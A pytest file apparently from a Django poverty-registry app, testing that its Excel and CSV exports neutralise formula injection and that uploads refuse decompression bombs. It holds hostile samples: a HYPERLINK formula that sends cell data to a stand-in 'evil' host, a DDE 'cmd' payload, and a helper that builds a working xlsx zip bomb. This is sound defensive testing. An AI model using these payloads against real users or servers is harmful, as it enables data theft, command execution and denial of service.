"""Issue 8, items 1–2: every workbook the product writes stores hostile text as text (no formula
cells), CSV exports neutralise leading = + - @, and a decompression bomb is refused before parsing."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import openpyxl
import pytest
from django.test import Client

from hongheo.capture.imports.fields import LAYOUTS
from hongheo.capture.imports.template import template_workbook
from hongheo.core.xlsx import ArchiveLimits, ArchiveRefused, check_archive, csv_text
from hongheo.users.models import Role

HOSTILE = ['=HYPERLINK("http://evil/?x="&A1,"Xem")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(1+1)*cmd"]


def formula_cells(data: bytes) -> list[str]:
    """Every cell that a spreadsheet program would evaluate, in every sheet."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    found = []
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    found.append(f"{ws.title}!{cell.coordinate}={cell.value}")
    return found


def all_text(data: bytes) -> str:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return " | ".join(
        str(c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None
    )


@pytest.fixture
def hostile_world(world):
    """Hostile text where users can put text: a member's and a head's name, a village, an address."""
    from hongheo.geography.services import village_create
    from hongheo.registry.models import Household, Member

    village = village_create(actor=None, commune=world.commune_a, name=HOSTILE[0])
    Household.objects.filter(pk=world.hh_a1.pk).update(
        head_name=HOSTILE[0], address=HOSTILE[1], village=village, area_path=village.path
    )
    Member.objects.filter(household=world.hh_a1).update(full_name=HOSTILE[2])
    Member.objects.filter(household=world.hh_a2).update(full_name=HOSTILE[3])
    return world


def _job_workbook(client, url, data):
    from hongheo.core.jobs import run_pending_jobs
    from hongheo.core.models import Job

    client.post(url, data)
    run_pending_jobs()
    job = Job.objects.latest("created_at")
    assert job.state == Job.State.SUCCEEDED, job.error
    with job.result_file.open("rb") as fh:
        return fh.read()


def test_every_workbook_keeps_hostile_text_as_text(hostile_world, imp):
    world = hostile_world
    from hongheo.capture.imports.template import template_workbook
    from hongheo.reports import builders, services, xlsx
    from hongheo.reviews.status import official_status_set
    from hongheo.standards.survey.workbook import build_template

    officer = world.users[Role.COMMUNE_OFFICER]
    client = Client()
    client.force_login(officer)
    books: dict[str, bytes] = {}
    # 1. the household export (job)
    books["households"] = _job_workbook(client, "/ho/xuat-excel/", {"xa": "", "thon": "", "q": ""})
    # 2. the report tables (village names are row labels) and the detailed list (head names)
    for hh in (world.hh_a1, world.hh_a2):
        official_status_set(
            actor=None, household=hh, classification="poor", effective_on=dt.date(2024, 1, 1), source="test"
        )
    tables = builders.report_tables(officer, world.commune_a, dt.date(2024, 1, 1), dt.date(2024, 12, 31))
    books["report"] = xlsx.tables_workbook(tables)
    books["list"] = services.household_list_export(
        actor=officer, area=world.commune_a, on=dt.date(2024, 12, 31), layout_code="danh_sach_ho_ngheo"
    )
    # 3. the rejected rows of an import (the file's own text comes back)
    rows = imp.household_rows("X-1", world.commune_a.code)
    rows[0]["Họ và tên"] = HOSTILE[0]
    rows[1]["Địa chỉ"] = HOSTILE[1]
    rows[1]["Ngày sinh"] = "không phải ngày"  # rejects the household
    batch = imp.run(officer, "hostile.csv", imp.to_csv(rows))
    assert batch.rejected_file
    with batch.rejected_file.open("rb") as fh:
        books["rejected"] = fh.read()
    # 4. templates the product hands out
    for layout in LAYOUTS:
        books[f"template-{layout}"] = template_workbook(layout)
    books["survey-template"] = build_template(sample=True)

    for name, data in books.items():
        assert formula_cells(data) == [], name
    for name in ("households", "report", "list", "rejected"):
        text = all_text(books[name])
        assert any(h in text for h in HOSTILE), f"{name}: the hostile text should be there, as text"
    assert HOSTILE[0] in all_text(books["households"]) and HOSTILE[2] in all_text(books["households"])
    assert HOSTILE[0] in all_text(books["report"])


def test_typed_writer_keeps_numbers_and_dates():
    from hongheo.core.xlsx import new_workbook, write_cell, write_cells

    buf = io.BytesIO()
    book = new_workbook(buf, {"in_memory": True})
    sheet = book.add_worksheet("x")
    write_cells(sheet, 0, 0, [1, 2.5, None, "=1+1", None, True, "0123"])
    write_cell(sheet, 0, 2, dt.date(2024, 1, 2), book.add_format({"num_format": "dd/mm/yyyy"}))
    sheet.write(1, 0, "=2+2")  # even the generic write keeps text as text
    book.close()
    ws = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active
    values = [c.value for c in ws[1]]
    assert values[:4] == [1, 2.5, dt.datetime(2024, 1, 2), "=1+1"]
    assert values[5] is True and values[6] == "0123"
    assert ws["A2"].value == "=2+2" and ws["A2"].data_type == "s"


def test_audit_csv_neutralises_formulas(world):
    from hongheo.core.audit import audit_read

    admin = world.users[Role.ADMINISTRATOR]
    audit_read(actor=admin, action="x", fields=["a"], household_code='=HYPERLINK("x")')
    client = Client()
    client.force_login(admin)
    body = b"".join(client.get("/nhat-ky/", {"xuat": "csv"}).streaming_content).decode("utf-8-sig")
    assert ",=HYPERLINK" not in body and "'=HYPERLINK" in body
    assert csv_text("-1+1") == "'-1+1" and csv_text(5) == 5 and csv_text("Nguyễn") == "Nguyễn"


# --- decompression bombs -------------------------------------------------------------------------


def bomb_xlsx(expanded_mb: int = 300) -> bytes:
    """A well-formed-looking .xlsx whose shared strings expand to ``expanded_mb`` MB (~0.3 MB on disk)."""
    from hongheo.capture.imports.template import template_workbook

    base = zipfile.ZipFile(io.BytesIO(template_workbook("member")))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for info in base.infolist():
            if info.filename == "xl/sharedStrings.xml":
                continue
            z.writestr(info.filename, base.read(info.filename))
        chunk = b"<si><t>" + b"A" * (1024 * 1024 - 15) + b"</t></si>"
        with z.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(
                b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            )
            for _ in range(expanded_mb):
                part.write(chunk)
            part.write(b"</sst>")
    return out.getvalue()


@pytest.fixture(scope="module")
def bomb() -> bytes:
    return bomb_xlsx()


def test_bomb_is_small_on_disk_and_refused_by_the_check(bomb):
    assert len(bomb) < 2 * 1024 * 1024
    with pytest.raises(ArchiveRefused, match="bom nén"):
        check_archive(bomb)
    with pytest.raises(ArchiveRefused, match="tỷ lệ nén"):
        check_archive(bomb, ArchiveLimits(max_member_bytes=10**12, max_total_bytes=10**12))
    check_archive(template_workbook("member"))  # an ordinary workbook passes


def test_import_refuses_a_bomb_with_a_vietnamese_message_and_writes_nothing(world, bomb):
    from hongheo.capture.imports.models import ImportBatch

    officer = world.users[Role.COMMUNE_OFFICER]
    client = Client()
    client.force_login(officer)
    from django.core.files.uploadedfile import SimpleUploadedFile

    response = client.post("/nhap-danh-sach/", {"tep": SimpleUploadedFile("bom.xlsx", bomb)})
    assert response.status_code in (200, 400, 422)
    assert "bom nén" in response.content.decode()
    assert not ImportBatch.objects.exists()


def test_survey_workbook_upload_refuses_a_bomb(bomb):
    from hongheo.standards.survey.workbook import WorkbookUnreadable, read_score_workbook

    with pytest.raises(WorkbookUnreadable, match="bom nén"):
        read_score_workbook(bomb)


def test_zip_limits_come_from_settings(settings, bomb):
    from hongheo.core.xlsx import archive_limits

    settings.HONGHEO_XLSX_MAX_RATIO = 5
    assert archive_limits().max_ratio == 5


def test_parse_runs_under_a_memory_ceiling():
    """The worker parses xlsx in a child process with an address-space limit: an allocation
    beyond it fails there (a clear refusal), never in the worker itself."""
    from hongheo.core.xlsx import ParseTooBig, run_limited

    assert run_limited(sum, [1, 2, 3], memory_mb=512) == 6
    with pytest.raises(ParseTooBig):
        run_limited(bytearray, 2 * 1024**3, memory_mb=512)
